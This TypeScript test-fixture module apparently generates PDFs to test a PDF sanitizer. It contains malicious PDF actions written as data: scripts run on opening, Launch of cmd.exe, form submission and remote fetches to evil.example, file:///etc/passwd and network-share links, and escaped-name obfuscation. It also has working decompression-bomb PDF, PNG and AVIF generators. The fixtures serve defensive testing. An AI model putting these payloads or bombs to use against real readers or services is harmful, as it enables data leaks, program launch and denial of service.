import { createCipheriv, createHash } from 'node:crypto'
import { constants, crc32, deflateRawSync, deflateSync, inflateSync } from 'node:zlib'

/** A PDF object: its text, or the dictionary entries and body of a stream. */
export type PdfPart = string | { entries: string; body: Buffer }

export type PdfPlan = {
  /** Entries added to the catalog and to the one page. */
  catalog?: string
  page?: string
  /** Further objects by number, from 5; 1 (catalog), 2 (pages), 3 (page) and 4 (content) can be replaced. */
  objects?: Record<number, PdfPart>
  /** Stores all objects that aren't streams in one object stream. */
  isPacked?: boolean
  /** Encrypts with AES-256 and this password; with '' the file opens without a password. */
  password?: string
}

/** Builds a PDF of one page from a plan, with a cross-reference stream. */
export const aPdf = ({ catalog = '', page = '', objects = {}, isPacked = false, password }: PdfPlan = {}): Buffer => {
  const parts = new Map<number, PdfPart>(
    Object.entries({
      1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R /Resources << >> ${page} >>`,
      4: { entries: '', body: Buffer.from('1 0 0 rg 20 20 160 260 re f') },
      ...objects,
    }).map(([number, part]) => [Number(number), part]),
  )
  const encryption = password === undefined ? undefined : encryptionOf(password)
  const next = Array.from(parts.keys()).reduce((most, number) => Math.max(most, number), 0) + 1
  const packed = isPacked ? Array.from(parts.keys()).filter((number) => typeof parts.get(number) === 'string') : []
  const indices = new Map(packed.map((number, index) => [number, index]))
  if (isPacked) parts.set(next, pack(packed.map((number) => [number, String(parts.get(number))])))
  return write(parts, indices, next, encryption)
}

const pack = (objects: [number, string][]): PdfPart => {
  let offset = 0
  const header = objects.map(([number, text]) => {
    const entry = `${number} ${offset}`
    offset += Buffer.byteLength(text) + 1
    return entry
  })
  const first = `${header.join(' ')}\n`
  return {
    entries: `/Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode`,
    body: deflateSync(`${first}${objects.map(([, text]) => text).join('\n')}\n`),
  }
}

const write = (
  parts: Map<number, PdfPart>,
  packed: Map<number, number>,
  container: number,
  encryption?: Encryption,
): Buffer => {
  const chunks: Buffer[] = []
  let size = 0
  const append = (...texts: (string | Buffer)[]) => {
    for (const chunk of texts.map((text) => Buffer.from(text))) {
      chunks.push(chunk)
      size += chunk.length
    }
  }
  const offsets = new Map<number, number>()
  append('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
  for (const [number, part] of parts) {
    if (packed.has(number)) continue
    offsets.set(number, size)
    if (typeof part === 'string') {
      append(`${number} 0 obj\n${encryption ? withStringsEncrypted(part, encryption) : part}\nendobj\n`)
      continue
    }
    const body = encryption ? encryption.encrypt(part.body) : part.body
    append(`${number} 0 obj\n<< ${part.entries} /Length ${body.length} >>\nstream\n`, body, '\nendstream\nendobj\n')
  }
  const last = container + 1
  offsets.set(last, size)
  const rows = Array.from({ length: last + 1 }, (_, number) => row(offsets.get(number), packed.get(number), container))
  const table = Buffer.concat(rows)
  append(
    `${last} 0 obj\n<< /Type /XRef /Size ${last + 1} /W [1 4 2] /Root 1 0 R /Length ${table.length} `,
    `${encryption ? `/Encrypt ${encryption.dictionary} ` : ''}/ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] >>\n`,
    'stream\n',
    table,
    `\nendstream\nendobj\nstartxref\n${offsets.get(last)}\n%%EOF\n`,
  )
  return Buffer.concat(chunks)
}

const row = (offset: number | undefined, index: number | undefined, container: number): Buffer => {
  const bytes = Buffer.alloc(7)
  if (index !== undefined) {
    bytes[0] = 2
    bytes.writeUInt32BE(container, 1)
    bytes.writeUInt16BE(index, 5)
  } else if (offset !== undefined) {
    bytes[0] = 1
    bytes.writeUInt32BE(offset, 1)
  }
  return bytes
}

const withStringsEncrypted = (part: string, { encrypt }: Encryption): string =>
  part.replace(/\((?:\\.|[^\\()])*\)|<[\da-f]+>/g, (text) => {
    const inner = text.slice(1, -1)
    const plain = text.startsWith('<')
      ? Buffer.from(inner, 'hex')
      : Buffer.from(inner.replace(/\\(.)/g, '$1'), 'latin1')
    return `<${encrypt(plain).toString('hex')}>`
  })

type Encryption = { dictionary: string; encrypt: (body: Buffer) => Buffer }

/** The standard security handler, revision 5 (AES-256), with fixed keys: equal plans give equal bytes. */
const encryptionOf = (password: string): Encryption => {
  const key = sha256('file key')
  const [checkSalt, keySalt] = [Buffer.from('checkslt'), Buffer.from('key-salt')]
  const user = Buffer.concat([sha256(password, checkSalt), checkSalt, keySalt])
  const owner = Buffer.concat([sha256('owner', checkSalt, user), checkSalt, keySalt])
  const permissions = Buffer.from('fcffffffffffffff5461646200000000', 'hex')
  const zero = Buffer.alloc(16)
  const entries = [
    ['U', user],
    ['UE', aes('cbc', sha256(password, keySalt), zero, key)],
    ['O', owner],
    ['OE', aes('cbc', sha256('owner', keySalt, user), zero, key)],
    ['Perms', aes('ecb', key, null, permissions)],
  ].map(([name, bytes]) => `/${String(name)} <${Buffer.from(bytes as Buffer).toString('hex')}>`)
  return {
    dictionary:
      '<< /Filter /Standard /V 5 /R 5 /Length 256 /P -4 /StmF /StdCF /StrF /StdCF ' +
      `/CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV3 /Length 32 >> >> ${entries.join(' ')} >>`,
    encrypt: (body) => {
      const padding = 16 - (body.length % 16)
      return Buffer.concat([zero, aes('cbc', key, zero, Buffer.concat([body, Buffer.alloc(padding, padding)]))])
    },
  }
}

const sha256 = (...parts: (string | Buffer)[]): Buffer =>
  parts.reduce((hash, part) => hash.update(part), createHash('sha256')).digest()

const aes = (mode: 'cbc' | 'ecb', key: Buffer, iv: Buffer | null, plain: Buffer): Buffer => {
  const cipher = createCipheriv(`aes-256-${mode}`, key, iv).setAutoPadding(false)
  return Buffer.concat([cipher.update(plain), cipher.final()])
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const widget = (action: string) => `/Annots [<< /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A ${action} >>]`

const link = (action: string) => `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`
const WEB = '<< /S /URI /URI (https://example.org/) >>'

/** Content that leaves the file by itself, and links to the disk or to the network. */
const LEAVING_PLANS: Record<string, PdfPlan> = {
  'an address opened with the file': { catalog: `/OpenAction ${WEB}` },
  'another file opened with the file': { catalog: '/OpenAction << /S /GoToR /F (two.pdf) /D [0 /Fit] >>' },
  'an address opened with a page': { page: `/AA << /O ${WEB} >>` },
  'an address opened when a field is entered': {
    page: `/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /E ${WEB} >> >>]`,
  },
  'an address opened by the actions of a page in objects of their own': {
    page: '/AA 5 0 R',
    objects: { 5: '<< /O 6 0 R >>', 6: '<< /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>', 7: WEB },
  },
  'a file in an attachment of another file, at opening': {
    catalog: '/OpenAction << /S /GoToE /F (two.pdf) /D [0 /Fit] /T << /R /C /N (a) >> >>',
  },
  'a stream whose data is elsewhere': {
    objects: { 5: { entries: '/F (https://evil.example/x)', body: Buffer.alloc(0) } },
  },
  'a form whose content is in another file': {
    objects: {
      5: { entries: '/Subtype /Form /BBox [0 0 9 9] /Ref << /F (two.pdf) /Page 0 >>', body: Buffer.alloc(0) },
    },
  },
  'a film from the network': {
    page: link(
      '<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (http://evil.example/a.mp4) >> >> >> >>',
    ),
  },
  'a film from the network, by its name alone': {
    page: link('<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://evil.example/a.mp4) >> >> >>'),
  },
  'a link to a network share': { page: link('<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\two.pdf) /D [0 /Fit] >>') },
  'a link to a network share in hexadecimal': { page: link('<< /S /GoToR /F <5c5c686f73745c61> /D [0 /Fit] >>') },
  'a link to a network share in UTF-16': {
    page: link('<< /S /GoToE /F << /UF <feff005c005c0068005c0061> >> /D [0 /Fit] >>'),
  },
  'a link to a file of the network': { page: link('<< /S /GoToR /F (//host/two.pdf) /D [0 /Fit] >>') },
  'a link to an SMB address': { page: link('<< /S /URI /URI (smb://host/share) >>') },
  'a link to an address without a scheme': { page: link('<< /S /URI /URI (//host/share) >>') },
  'a link to a file address': { page: link('<< /S /URI /URI (file:///etc/passwd) >>') },
  'a link to a script': { page: link('<< /S /URI /URI (javascript:alert\\(1\\)) >>') },
  'a link to a file by its path': { page: link('<< /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>') },
  'a link to a file of a drive': { page: link('<< /S /GoToR /F (C:\\\\two.pdf) /D [0 /Fit] >>') },
  'a link to a file in a folder above': { page: link('<< /S /GoToR /F (a/../../two.pdf) /D [0 /Fit] >>') },
  'a link to a network share in an object of its own': {
    page: link('<< /S /GoToR /F 5 0 R /D [0 /Fit] >>'),
    objects: { 5: '<< /Type /Filespec /F 6 0 R >>', 6: '(//host/two.pdf)' },
  },
}

/** Every kind of active content that is rejected, by name. */
export const ACTIVE_PLANS: Record<string, PdfPlan> = {
  'a script run on opening': { catalog: `/OpenAction ${SCRIPT}` },
  'a script in the name tree': { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', objects: { 5: SCRIPT } },
  'a script run when a page is shown': {
    page: '/AA << /O << /S /JavaScript /JS 5 0 R >> >>',
    objects: { 5: { entries: '', body: Buffer.from('app.alert(1)') } },
  },
  'a script after a harmless action': { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>` },
  'a script whose type is an indirect reference': {
    catalog: '/OpenAction << /S 5 0 R /JS 6 0 R >>',
    objects: { 5: '/JavaScript', 6: '(app.alert\\(1\\))' },
  },
  'a script under a second key of the same name': { catalog: '/OpenAction << /S /GoTo /S /JavaScript /JS (x) >>' },
  'a rendition with a script': { page: widget('<< /S /Rendition /JS (app.alert\\(1\\)) >>') },
  'a program to launch': { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' },
  'a Windows program to launch': { page: widget('<< /S /Launch /Win << /F (cmd.exe) >> >>') },
  'a form that is sent': { page: widget('<< /S /SubmitForm /F (https://evil.example/) >>') },
  'data to import': { page: widget('<< /S /ImportData /F (data.fdf) >>') },
  'rich media': { page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' },
  'an XFA form': {
    catalog: '/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>',
    objects: { 5: { entries: '', body: Buffer.from('<template/>') } },
  },
  'an XFA form behind a name of the same word': {
    catalog: '/AcroForm << /Fields [] /X /XFA /XFA 5 0 R >>',
    objects: { 5: { entries: '', body: Buffer.from('<template/>') } },
  },
  'an XFA form after an empty one': {
    catalog: '/AcroForm << /Fields [] /XFA null /XFA [(template) 5 0 R] >>',
    objects: { 5: { entries: '', body: Buffer.from('<template/>') } },
  },
  ...LEAVING_PLANS,
}

/** Harmless content that looks active: each must be accepted. */
export const HARMLESS_PLANS: Record<string, PdfPlan> = {
  'a page to open at': { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' },
  'links within, to other files and to the web': {
    page:
      '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >> ' +
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (two.pdf) /D [0 /Fit] >> >> ' +
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /NextPage >> >>]',
  },
  'links to neighbouring files, to pages of attachments and to mail': {
    page:
      '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /Type /Filespec /F (part two/1.pdf) >> >> >> ' +
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (https://example.org/a.pdf) >> >> >> ' +
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >> >> ' +
      '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:a@example.org) >> >>]',
  },
  'a page to open at that has a link to the web': {
    catalog: '/OpenAction [3 0 R /Fit]',
    page: `/Annots [5 0 R] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>`,
    objects: { 5: `<< /Subtype /Link /Rect [0 0 9 9] /A 6 0 R /P 3 0 R >>`, 6: WEB },
  },
  'an attachment with the path that it had': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (C:\\\\a.pdf) /EF << /F 5 0 R >> >>] >> >>',
    objects: { 5: { entries: '/Type /EmbeddedFile', body: Buffer.from('a') } },
  },
  'names of actions that are not actions': {
    catalog: '/Lang 5 0 R /PieceInfo << /A << /S /Launch >> /B << /S /JavaScript /Type /OnInstantiate >> >>',
    objects: {
      5: '/JavaScript',
      6: '[/RichMedia /XFA /S /SubmitForm]',
      7: '<< /S /SubmitForm /Name /XFA /Key /RichMedia >>',
    },
  },
  'additional actions that only go somewhere': { page: '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>' },
  'a form to fill in': {
    catalog: '/AcroForm << /Fields [5 0 R] /XFA null >>',
    page: '/Annots [5 0 R]',
    objects: { 5: '<< /Subtype /Widget /FT /Tx /T (name) /V (Ada) /Rect [0 0 9 9] /F 4 /P 3 0 R >>' },
  },
  'an embedded file': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a.pdf) << /Type /Filespec /F (a.pdf) /EF << /F 5 0 R >> >>] >> >>',
    objects: {
      5: {
        entries: '/Type /EmbeddedFile',
        body: Buffer.from(`9 0 obj ${SCRIPT} endobj stream x endstream 8 0 obj ${SCRIPT}`),
      },
    },
  },
  'an empty script tree': { catalog: '/Names << /JavaScript << /Names [] >> >>' },
  'fonts, destinations and tags with such names': {
    catalog:
      '/Dests << /JavaScript [3 0 R /Fit] /Launch [3 0 R /Fit] /S [3 0 R /Fit] >> /StructTreeRoot 5 0 R ' +
      '/OpenAction << /S /GoTo /D /JavaScript >>',
    page: '/Resources << /Font << /JS 7 0 R /SubmitForm 7 0 R >> >>',
    objects: {
      5: '<< /Type /StructTreeRoot /K 6 0 R /RoleMap << /JavaScript /P /Launch /H1 >> >>',
      6: '<< /Type /StructElem /S /JavaScript /P 5 0 R /K [<< /S /Launch /P 6 0 R >>] >>',
      7: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    },
  },
  'a text about active content': {
    objects: {
      4: { entries: '', body: Buffer.from(`BT (${SCRIPT}) Tj ET % << /S /JavaScript /JS (x) >>`) },
      5: `<< /Title (A book on << /S /JavaScript /JS \\(x\\) >>) /Note ((nested) /S /Launch /F) >>`,
      6: `<< /Title (escaped \\) << /S /JavaScript /JS \\( >>) >>`,
      7: '<< /Title (commented) % /S /JavaScript /JS (x)\n >>',
    },
  },
}

/** The same plan with names written in escapes: /JS as /#4a#53. */
export const inEscapes = (plan: PdfPlan): PdfPlan => ({
  ...plan,
  catalog: escapeNames(plan.catalog ?? ''),
  page: escapeNames(plan.page ?? ''),
  objects: Object.fromEntries(
    Object.entries(plan.objects ?? {}).map(([number, part]) => [
      number,
      typeof part === 'string' ? escapeNames(part) : part,
    ]),
  ),
})

const escapeNames = (text: string): string =>
  text.replace(
    /\/(JavaScript|JS|S|Launch|SubmitForm|ImportData|RichMedia|Rendition|XFA|OpenAction|AA|URI|GoToR|F)\b/g,
    (_, name: string) => `/${Array.from(name, (letter) => `#${letter.charCodeAt(0).toString(16)}`).join('')}`,
  )

/** A zlib stream that inflates to `mebibytes` of spaces, a thousandth of that in size. */
export const bombOf = (mebibytes: number): Buffer => {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024, ' '), { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  return Buffer.concat([
    Buffer.from('789c', 'hex'),
    ...Array<Buffer>(mebibytes).fill(block),
    Buffer.from('0300', 'hex'),
  ])
}

const packedContent = (body: Buffer): PdfPart => ({ entries: '/Filter /FlateDecode', body })

/** A page whose content inflates to 1 GiB. */
export const bombPdf = (): Buffer => aPdf({ objects: { 4: packedContent(bombOf(1024)) } })

/** The same in several harmless parts: only rendering the page inflates all of them. */
export const piecewiseBombPdf = (): Buffer =>
  aPdf({ page: `/Contents [${'4 0 R '.repeat(8)}]`, objects: { 4: packedContent(bombOf(250)) } })

/** A page that takes minutes to render. */
export const slowPdf = (): Buffer =>
  aPdf({ objects: { 4: packedContent(deflateSync('0 0 m 200 300 150 0 0 300 c f '.repeat(200_000))) } })

/** A PNG of 30,000 x 30,000 black pixels in 109 KB. */
export const bombPng = (): Buffer => {
  const header = Buffer.from('00007530000075300100000000', 'hex')
  const chunks: [string, Buffer][] = [
    ['IHDR', header],
    ['IDAT', bombOf(108)],
    ['IEND', Buffer.alloc(0)],
  ]
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks.map(([type, data]) => pngChunk(type, data))])
}

const pngChunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  checksum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, checksum])
}

/** An AVIF of 7990 x 7990 pixels of one color in 1.6 KB: decoding it takes more than a gigabyte. */
export const largeAvif = (): Buffer => inflateSync(Buffer.from(LARGE_AVIF, 'base64'))

const LARGE_AVIF =
  'eNpjYGCQSSupLEgsy0xjAILczDRDEDs3MxHEv5abWpLIAAGKGSk5RVA2Q0FmcgkDGlDKzMlPBjFcHBgYgRAEfkFpBtYMIKGcmZkH' +
  'tgYsKgrkpDJBeYllBoYgJl9BZkkuXElYZkFRAZC2yCxIzgfSPIllhs6N9mBNIpnFBakQw+XNIJhBoCCzIhMkwszBwQGkxDILcmHu' +
  'BzqJuZGJGeiUgtyUxBIhBi4u+8922Z/DJghcyDS6ziW8o+Xoycu+JoeOHWhgyGM4f0rru2TlsQq77W6uJ0yjdwiFvPvmJWi+aPmW' +
  'HcrVmTLx/gfPCT99f6rywQd3xRPPpvq2vxR0CddyK1ul7RC4NVqqq81VyrpVMPTaurDC5AdnFt9WPsa/5uPe3CUybLZv1qWdKt6h' +
  'NFfgS15f/vXIRZ5mmou2olkYZdIgcedQxRLexBK9xfN5atYKnVt03THsibrNdcf6x0daWDZm7by3W/PPw72/nqXvny9d0sWq4LOw' +
  '2/KzDLvOac7A4OUm7lOncy3bnrTjcEXs7TdbGmokeZa+izt/WfKOg8IMs1nFj2UW7zm3a4tYpf2XuFzpMAGHqWpnGEo9Qz6dEulI' +
  'r33AZDNxhxNP5/9/dlpSNQ9uWwrGpN4/wLZm0a3lDo12vIyzlpp0udmkysrkoLpbe3uH/a6Hp2d6X3c9KGXkd0hr+pJZYRrmr/q5' +
  '1WVmxtmkxgdYLdja8SCvgF9s6ZT+h7wFoRcVhV2lK7afrRKbvXnr+bfRs2qnW8eneyp4lHe6MD+f6W99fMbGHSrNW6wefu67FLca' +
  'aJ2m0MlHD3v+JXDJxIm37i4+bLK5N1P15qeM6xVS031dt7nr9P95L/C0/vqP7zZBD6XSArnWtH8QkUp4dMQ24Vtj3d3p849ErPua' +
  'yG849eypik9fXxzebnMhdJ5QreTrrdMqgkLayoVd1zpr8Z8/s/PynqSpx6sv97kZyll6VlTmfy4P3he34mNQqa7SHjmV7VzMv+/t' +
  'sV55acLKiKVTJ6RElsx1/mSdWP37YM6tNV+nB7axLxgNHDyBc5degeNu5zG9wfnC6xs/9vKt+JC16n7Rx6Z7XVrTH3Uu+Oa2YqKg' +
  '8aXkK6ITzvXtvszVe7VM6YxoodCLgA2Tbti1t79rVP5kuaaBTX2Dm7uhRsAjKfvVKnb50+aWKM5a6GrasotNUZItadal7+1ZSxK8' +
  'vzfcVWQI+/o7qEN//4oZZwd5XOTf65kRm1lgv/inaOPO18Wu1hvjO4KflJY8/Jh+8Kf1ygIL/3Nej7+s2WZkvPy00qbvxuEhVSbq' +
  'Aqe/rXd9L2Q4dfpXXvPT92YuFIr4o5fBVRqTklD4h9NW8lkRn/Pn+FuhhvMWSJZrLGYPuXYAANCc0Vk='
